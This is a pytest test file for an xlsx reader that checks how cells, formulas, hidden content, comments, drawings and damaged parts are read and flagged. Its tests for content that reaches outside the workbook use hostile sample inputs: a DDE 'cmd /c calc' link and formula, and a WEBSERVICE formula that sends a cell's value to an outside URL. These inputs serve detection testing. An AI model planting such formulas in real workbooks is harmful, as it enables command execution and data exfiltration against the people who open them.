"""A workbook is its stored cells, by address, with what lies behind and beside them."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from outcomes.artifact import Artifact, Block, Flag
from outcomes.artifacts.xlsx.markup import Reference, quoted, reaches_outside, read_reference
from outcomes.artifacts.xlsx.reader import read_xlsx
from outcomes.errors import ArtifactError
from outcomes.reader import DEFAULT_LIMITS
from tests.artifacts.ooxml_files import HEAD, XMLNS, content_types, docx, relationships, zipped

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def xml(root: str, inner: str) -> str:
    return f'{HEAD}<{root} xmlns="{MAIN}" xmlns:xdr="{DRAWING}" {XMLNS}>{inner}</{root}>'


def rows(*cells: str) -> str:
    """Sheet data of one row a string."""
    return "<sheetData>" + "".join(f"<row>{row}</row>" for row in cells) + "</sheetData>"


def workbook(
    *sheets: tuple[str, str],
    extra: str = "",
    parts: Mapping[str, str | bytes] | None = None,
    rels: tuple[tuple[str, str, str], ...] = (),
) -> bytes:
    """A workbook of (attributes, content) sheets; `extra` goes into the workbook, `rels` are its relationships."""
    listed = "".join(f'<sheet {attributes} sheetId="{i}" r:id="s{i}"/>' for i, (attributes, _) in enumerate(sheets, 1))
    targets = [(f"s{i}", "worksheet", f"worksheets/sheet{i}.xml") for i, _ in enumerate(sheets, 1)]
    base: dict[str, str | bytes] = {
        "[Content_Types].xml": content_types({"xl/workbook.xml": BOOK_TYPE}),
        "_rels/.rels": relationships(("rId1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": xml("workbook", f"<sheets>{listed}</sheets>{extra}"),
        "xl/_rels/workbook.xml.rels": relationships(*targets, *rels),
        **{f"xl/worksheets/sheet{i}.xml": xml("worksheet", inner) for i, (_, inner) in enumerate(sheets, 1)},
    }
    return zipped({**base, **(parts or {})})


def read(*sheets: tuple[str, str], **options: object) -> Artifact:
    return read_xlsx(workbook(*sheets, **options), "book.xlsx")  # type: ignore[arg-type]


def cells(artifact: Artifact) -> list[tuple[str, str, str | None]]:
    return [(cell.locator, cell.text, cell.reason) for cell in artifact.of_kind("cell")]


def refusal(data: bytes) -> str:
    with pytest.raises(ArtifactError) as caught:
        read_xlsx(data, "book.xlsx")
    return caught.value.code


def test_a_sheet_is_a_unit_of_its_stored_cells() -> None:
    artifact = read(('name="Q3 plan"', rows('<c r="B7" t="str"><v>Rent</v></c><c r="C7"><v>1200.5</v></c><c r="D7"/>')))

    assert artifact.units[0].blocks == (
        Block("cell", "'Q3 plan'!B7", "Rent", row=7, column=2),
        Block("cell", "'Q3 plan'!C7", "1200.5", row=7, column=3),
    )
    assert [(u.kind, u.number, u.locator, u.title, u.hidden) for u in artifact.units] == [
        ("sheet", 1, "'Q3 plan'", "Q3 plan", False),
        ("margin", 2, "workbook", "", False),
    ]
    assert (artifact.kind, artifact.flags) == ("xlsx", ())
    assert artifact.facts == {"sheets": 1, "cells": 2, "formulas": 0}


def test_every_type_of_value_is_read_as_stored() -> None:
    strings = xml(
        "sst",
        "<si><t>one</t></si><si><r><t>rich </t></r><r><t>text</t></r><rPh sb='0' eb='1'><t>guide</t></rPh></si>",
    )
    artifact = read(
        (
            'name="S"',
            rows(
                '<c t="s"><v>1</v></c><c t="s"><v>9</v></c><c t="s"><v>0</v></c>',
                '<c t="inlineStr"><is><t>in</t></is></c><c t="b"><v>1</v></c>'
                '<c t="e"><v>#REF!</v></c><c><v>45000</v></c>',
            ),
        ),
        rels=(("x", "sharedStrings", "sharedStrings.xml"),),
        parts={"xl/sharedStrings.xml": strings},
    )

    assert cells(artifact) == [
        ("S!A1", "rich text", None),
        ("S!C1", "one", None),
        ("S!A2", "in", None),
        ("S!B2", "TRUE", None),
        ("S!C2", "#REF!", None),
        ("S!D2", "45000", None),
    ]


def test_a_formula_stays_behind_the_value_it_led_to() -> None:
    artifact = read(('name="S"', rows('<c r="A1"><f>SUM(B1:B2)</f><v>3</v></c><c r="A2"><f t="shared" si="0"/></c>')))

    assert artifact.units[0].blocks == (
        Block(
            "cell",
            "S!A1",
            "3",
            row=1,
            column=1,
            children=(
                Block(
                    "metadata", "S!A1 / formula", "=SUM(B1:B2)", visibility="hidden", reason="formula", name="formula"
                ),
            ),
        ),
        Block(
            "cell",
            "S!A2",
            row=2,
            column=1,
            children=(
                Block(
                    "metadata",
                    "S!A2 / formula",
                    "=(shared formula 0)",
                    visibility="hidden",
                    reason="formula",
                    name="formula",
                ),
            ),
        ),
    )
    assert artifact.flags == (
        Flag("uncalculated", "1 formula without a stored result: the file was never calculated", severity="info"),
    )


def test_merged_cells_span_and_linked_cells_lead_somewhere() -> None:
    sheet = (
        '<sheetData><row r="1"><c r="A1"><v>1</v></c><c r="C1"><v>2</v></c></row></sheetData>'
        '<mergeCells><mergeCell ref="A1:B3"/><mergeCell ref="nonsense"/></mergeCells>'
        '<hyperlinks><hyperlink ref="A1" r:id="h"/><hyperlink ref="C1" location="S!A1"/></hyperlinks>'
    )
    artifact = read(
        ('name="S"', sheet),
        parts={"xl/worksheets/_rels/sheet1.xml.rels": relationships(("h", "hyperlink", "https://example.org/"))},
    )

    assert artifact.units[0].blocks == (
        Block("cell", "S!A1", "1", row=1, column=1, row_span=3, column_span=2, target="https://example.org/"),
        Block("cell", "S!C1", "2", row=1, column=3, target="#S!A1"),
    )
    assert artifact.flags == ()


def test_hidden_sheets_rows_and_columns_are_marked_and_flagged() -> None:
    sheet = (
        '<cols><col min="2" max="2" hidden="1"/><col min="4" max="99999999" width="0"/></cols><sheetData>'
        '<row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c><c r="E1"><v>3</v></c></row>'
        '<row r="2" hidden="1"><c r="A2"><v>4</v></c></row></sheetData>'
    )
    artifact = read(('name="A"', sheet), ('name="B" state="veryHidden"', rows('<c r="A1"><v>5</v></c>')))

    assert cells(artifact) == [
        ("A!A1", "1", None),
        ("A!B1", "2", "hidden-column"),
        ("A!E1", "3", "hidden-column"),
        ("A!A2", "4", "hidden-row"),
        ("B!A1", "5", "hidden-sheet"),
    ]
    assert [unit.hidden for unit in artifact.units] == [False, True, False]
    assert artifact.visible_text == "1"
    assert artifact.flags == (
        Flag("hidden-text", "3 cells of A in hidden rows or columns", locator="A"),
        Flag("hidden-text", "the sheet B is hidden", locator="B"),
    )


def test_cells_whose_style_shows_nothing_are_concealed() -> None:
    styles = xml(
        "styleSheet",
        '<numFmts><numFmt numFmtId="164" formatCode=";;;"/><numFmt numFmtId="165" formatCode="0;;"/></numFmts>'
        '<fonts><font/><font><color rgb="FFFFFFFF"/></font><font><sz val="1"/></font><font><color theme="0"/></font>'
        '<font><color theme="0" tint="-0.5"/></font></fonts>'
        '<fills><fill><patternFill patternType="none"/></fill>'
        '<fill><patternFill patternType="solid"><fgColor rgb="FF000000"/></patternFill></fill></fills>'
        '<cellXfs><xf/><xf fontId="1"/><xf fontId="1" fillId="1"/><xf fontId="2"/><xf fontId="3"/><xf fontId="4"/>'
        '<xf numFmtId="164"/><xf numFmtId="165"/></cellXfs>',
    )
    artifact = read(
        ('name="S"', rows("".join(f'<c s="{style}"><v>{style}</v></c>' for style in range(8)))),
        rels=(("x", "styles", "styles.xml"),),
        parts={"xl/styles.xml": styles},
    )

    assert {text: reason for _, text, reason in cells(artifact) if reason} == {
        "1": "white",
        "3": "tiny",
        "4": "white",
        "6": "display-none",
    }
    assert [flag.code for flag in artifact.flags] == ["hidden-text"] * 4


def test_comments_have_author_and_place() -> None:
    notes = xml(
        "comments",
        '<authors><author>Ann</author></authors><commentList><comment ref="A1" authorId="0"><text><t>Why?</t></text>'
        '</comment><comment ref="B2" authorId="x"><text><r><t>So.</t></r></text></comment></commentList>',
    )
    artifact = read(
        ('name="S"', rows("")),
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(("c", "comments", "../comments1.xml")),
            "xl/comments1.xml": notes,
        },
    )

    assert artifact.of_kind("comment") == [
        Block("comment", "S!A1 / comment", "Why?", "hidden", "comment", author="Ann", target="S!A1"),
        Block("comment", "S!B2 / comment", "So.", "hidden", "comment", target="S!B2"),
    ]


def test_a_thread_replaces_its_classic_copy() -> None:
    thread = (
        '<ThreadedComments xmlns="t"><threadedComment ref="A1" personId="p"><text>Why?</text></threadedComment>'
        '<threadedComment ref="A1" personId="q" parentId="1"><text>Because.</text></threadedComment></ThreadedComments>'
    )
    artifact = read(
        ('name="S"', rows("")),
        rels=(("p", "person", "persons/person.xml"),),
        parts={
            "xl/persons/person.xml": '<personList xmlns="t"><person displayName="Ann" id="p"/></personList>',
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(
                ("c", "comments", "../comments1.xml"), ("t", "threadedComment", "../threads.xml")
            ),
            "xl/comments1.xml": xml("comments", '<commentList><comment ref="A1"/></commentList>'),
            "xl/threads.xml": thread,
        },
    )

    assert [(c.locator, c.text, c.author) for c in artifact.of_kind("comment")] == [
        ("S!A1 / comment", "Why?", "Ann"),
        ("S!A1 / comment 2", "Because.", None),
    ]


def test_charts_pictures_and_text_boxes_stand_beside_the_cells() -> None:
    def shape(tag: str, attributes: str, inner: str) -> str:
        return f'<xdr:{tag}><xdr:nv><xdr:cNvPr id="1" {attributes}/></xdr:nv>{inner}</xdr:{tag}>'

    text = "<xdr:txBody><a:p><a:r><a:t>Note</a:t></a:r></a:p></xdr:txBody>"
    drawing = xml(
        "xdr:wsDr",
        shape(
            "graphicFrame",
            'name="Chart 1"',
            '<a:graphic><a:graphicData><c:chart r:id="c"/></a:graphicData></a:graphic>',
        )
        + shape("graphicFrame", "", '<a:graphic><a:graphicData><c:chart r:id="gone"/></a:graphicData></a:graphic>')
        + shape("pic", 'name="Logo" descr="Our logo"', "")
        + shape("sp", 'name="Box"', text)
        + shape("sp", 'hidden="1"', text),
    )
    chart = xml(
        "c:chartSpace",
        "<c:chart><c:plotArea><c:barChart><c:ser><c:val><c:numRef><c:numCache><c:pt idx='0'><c:v>7</c:v></c:pt>"
        "</c:numCache></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart>",
    )
    artifact = read(
        ('name="S"', rows("")),
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(("d", "drawing", "../drawings/drawing1.xml")),
            "xl/drawings/drawing1.xml": drawing,
            "xl/drawings/_rels/drawing1.xml.rels": relationships(
                ("c", "chart", "../charts/chart1.xml"), ("gone", "chart", "../charts/chart9.xml")
            ),
            "xl/charts/chart1.xml": chart,
        },
    )

    assert [(b.kind, b.locator, b.name, b.alt, b.reason) for b in artifact.units[0].blocks] == [
        ("chart", "S / chart 1", "Chart 1", None, None),
        ("unreadable", "S / chart 2", None, None, None),
        ("picture", "S / picture 1", "Logo", "Our logo", None),
        ("text_box", "S / text box 1", "Box", None, None),
        ("object", "S / text box 2", None, None, "hidden-shape"),
    ]
    assert "7" in artifact.units[0].blocks[0].full_text
    assert [flag.code for flag in artifact.flags] == ["unreadable", "hidden-text"]


def test_defined_names_are_metadata_in_the_margin() -> None:
    artifact = read(
        ('name="S"', rows("")), extra='<definedNames><definedName name="Rate">S!$A$1</definedName></definedNames>'
    )

    assert artifact.units[-1].blocks == (
        Block("metadata", "defined name / Rate", "S!$A$1", visibility="hidden", reason="metadata", name="Rate"),
    )


def test_whatever_reaches_out_of_the_workbook_is_flagged() -> None:
    link = xml("externalLink", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')
    artifact = read(
        ('name="S"', rows('<c r="A1"><f>WEBSERVICE("http://x/"&amp;B1)</f><v>1</v></c>')),
        extra='<definedNames><definedName name="Far">[1]S!$A$1</definedName></definedNames>',
        rels=(("e", "externalLink", "externalLinks/externalLink1.xml"),),
        parts={"xl/externalLinks/externalLink1.xml": link},
    )

    assert artifact.flags == (
        Flag("external-link", "a formula that reaches out of the workbook; nothing was fetched", locator="S!A1"),
        Flag("external-link", "a defined name that reaches out of the workbook", locator="defined name / Far"),
        Flag(
            "external-link",
            "exchanges data with the program 'cmd'; it was not started",
            locator="xl/externalLinks/externalLink1.xml",
        ),
    )


@pytest.mark.parametrize(
    ("formula", "outside"),
    [
        ("cmd|'/c calc'!A0", True),
        ("_xlfn.WEBSERVICE(A1)", True),
        ("'[2]Other book'!A1", True),
        ("SUM(A1:A3)", False),
        ('"WEBSERVICE(" & "a|b"', False),
        ("Table1[Amount]", False),
    ],
)
def test_formulas_that_reach_outside_are_told_from_the_others(formula: str, outside: bool) -> None:  # noqa: FBT001
    assert reaches_outside(formula) is outside


@pytest.mark.parametrize(
    ("name", "spelt"),
    [
        ("Sheet1", "Sheet1"),
        ("Q3 plan", "'Q3 plan'"),
        ("It's", "'It''s'"),
        ("A1", "'A1'"),
        ("Лист", "Лист"),
        ("1st", "'1st'"),
    ],
)
def test_sheet_names_are_quoted_as_excel_quotes_them(name: str, spelt: str) -> None:
    assert quoted(name) == spelt


@pytest.mark.parametrize(
    ("text", "reference"),
    [
        ("A1", Reference(1, 1)),
        ("$AB$12", Reference(12, 28)),
        ("XFD1048576", Reference(1_048_576, 16_384)),
        ("XFE1", None),
        ("A0", None),
        ("A1048577", None),
        ("", None),
        ("12", None),
    ],
)
def test_references_are_read_and_written(text: str, reference: Reference | None) -> None:
    assert read_reference(text) == reference
    assert reference is None or str(reference) == text.replace("$", "")


def test_one_damaged_sheet_leaves_the_others_readable() -> None:
    artifact = read(
        ('name="A"', rows('<c r="A1"><v>1</v></c>')),
        ('name="B"', ""),
        parts={"xl/worksheets/sheet2.xml": "<worksheet><row>"},
    )

    assert [[block.kind for block in unit.blocks] for unit in artifact.units] == [["cell"], ["unreadable"], []]
    assert [(flag.code, flag.locator) for flag in artifact.flags] == [("unreadable", "B")]


def test_damaged_side_parts_leave_the_cells_readable() -> None:
    artifact = read(
        ('name="A"', rows('<c r="A1" s="5" t="s"><v>0</v></c><c r="B1"><v>2</v></c>')),
        rels=(("x", "sharedStrings", "missing.xml"), ("y", "styles", "styles.xml")),
        parts={"xl/styles.xml": "<"},
    )

    assert cells(artifact) == [("A!B1", "2", None)]
    assert [flag.code for flag in artifact.flags] == ["unreadable", "unreadable"]


def test_damage_beside_a_sheet_is_said_where_it_is() -> None:
    artifact = read(
        ('name="A"', rows('<c r="A1"><v>1</v></c>')),
        rels=(("e", "externalLink", "externalLinks/externalLink1.xml"),),
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(
                ("c", "comments", "../comments1.xml"), ("d", "drawing", "../drawings/drawing1.xml")
            ),
            "xl/comments1.xml": "<",
            "xl/drawings/drawing1.xml": "<",
            "xl/externalLinks/externalLink1.xml": "<",
        },
    )

    assert [(block.kind, block.locator) for block in artifact.walk()] == [
        ("cell", "A!A1"),
        ("unreadable", "A / comments"),
        ("unreadable", "A / drawing"),
        ("unreadable", "xl/externalLinks/externalLink1.xml"),
    ]
    assert [flag.code for flag in artifact.flags] == ["unreadable"] * 3


def test_a_sheet_listed_twice_is_read_once() -> None:
    data = workbook(
        ('name="A"', rows('<c r="A1"><v>1</v></c>')),
        ('name="B"', ""),
        parts={
            "xl/_rels/workbook.xml.rels": relationships(
                ("s1", "worksheet", "worksheets/sheet1.xml"), ("s2", "worksheet", "worksheets/sheet1.xml")
            )
        },
    )

    assert [[block.kind for block in unit.blocks] for unit in read_xlsx(data, "b.xlsx").units[:2]] == [
        ["cell"],
        ["unreadable"],
    ]


def test_more_cells_or_sheets_than_the_limits_are_left_out_visibly() -> None:
    data = workbook(('name="A"', rows("<c><v>1</v></c><c><v>2</v></c>")), ('name="B"', rows("<c><v>3</v></c>")))

    few_cells = read_xlsx(data, "b.xlsx", replace(DEFAULT_LIMITS, blocks=1))
    one_sheet = read_xlsx(data, "b.xlsx", replace(DEFAULT_LIMITS, slides=1))

    assert cells(few_cells) == [("A!A1", "1", None)]
    assert few_cells.flags == (
        Flag("truncated", "only the first 1 cell were read; the rest was left out", locator="workbook"),
    )
    assert [flag.detail for flag in one_sheet.flags] == ["only the first 1 sheet were read; the rest was left out"]


def test_other_office_files_are_refused() -> None:
    assert refusal(docx("<w:p/>")) == "not-ooxml"
    assert refusal(b"") == "empty-file"
    assert refusal(workbook(parts={"xl/workbook.xml": "<"})) == "bad-xml"


@pytest.mark.corpus
def test_two_cells_at_the_ends_of_the_sheet_are_two_blocks(corpus: Path) -> None:
    data = (corpus / "hostile/sparse_max.xlsx").read_bytes()

    assert cells(read_xlsx(data, "sparse.xlsx")) == [("Sheet!A1", "a", None), ("Sheet!XFD1048576", "z", None)]


@pytest.mark.corpus
def test_workbooks_of_the_corpus_are_read_or_encrypted(corpus: Path) -> None:
    found = {}
    for path in sorted((corpus / "documents/xlsx").glob("*.xlsx")):
        try:
            found[path.stem] = str(read_xlsx(path.read_bytes(), path.name).facts["cells"])
        except ArtifactError as error:
            found[path.stem] = error.code

    assert found == {
        "OfficeBench__company_budget": "8",
        "calamine__issue438": "10",
        "docling__xlsx_05_table_with_title": "15",
        "docling__xlsx_emf": "12",
        "kreuzberg__test_01": "117",
        "markitdown__xlsx_image_end": "16",
        "msoffcrypto-tool__example": "2",
        "msoffcrypto-tool__example_password": "encrypted",
        "oletools__encrypted": "encrypted",
        "python-pptx__shp-embedded-xlsx": "3",
        "tika__pic": "0",
        "tika__protectedFile": "encrypted",
        "tika__testDdeLink": "1",
        "unstructured__password_protected": "encrypted",
        "unstructured__vodafone": "61",
    }
